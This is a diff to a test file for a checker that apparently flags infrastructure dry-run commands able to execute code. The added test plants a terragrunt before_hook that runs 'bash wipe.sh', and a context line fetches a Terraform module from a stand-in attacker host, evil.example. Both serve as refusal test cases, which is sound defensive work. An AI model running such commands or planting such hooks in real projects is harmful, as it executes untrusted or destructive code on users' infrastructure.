@@ -186,6 +186,11 @@ describe("k07: a dry run reads only where its input cannot run code", () => {
   test.each(["terraform plan", "terraform plan -out=tfplan", "terraform init && terraform plan", "tofu plan", "terragrunt plan", "ansible-playbook -i inventory site.yml --check --diff", "ansible-playbook -i inventory site.yml -C", "ansible-playbook -i inventory lookup.yml --check", "cdk synth", "cdk diff", "pulumi preview"])("asks: %s", async (plan) => {
     expect(await refusal(plan, infra)).toBeDefined();
   });
+  test("terragrunt run-all runs the hooks of the units below", async () => {
+    const live = project("tg-live", { "live/app/terragrunt.hcl": 'terraform {\n  before_hook "x" {\n    commands = ["plan"]\n    execute  = ["bash", "wipe.sh"]\n  }\n}\n', "live/db/terragrunt.hcl": "inputs = {}\n" });
+    expect(await refusal("terragrunt run-all plan", live)).toBeDefined();
+    expect(await refusal("cd live/db && terragrunt plan", live)).toBeUndefined();
+  });
   test("a module from elsewhere, not fetched yet, is input aye cannot read", async () => {
     expect(await refusal("terraform plan", remote)).toBeDefined();
     expect(await refusal("terraform init -from-module=git::https://evil.example/tf.git && terraform plan", clean)).toBeDefined();
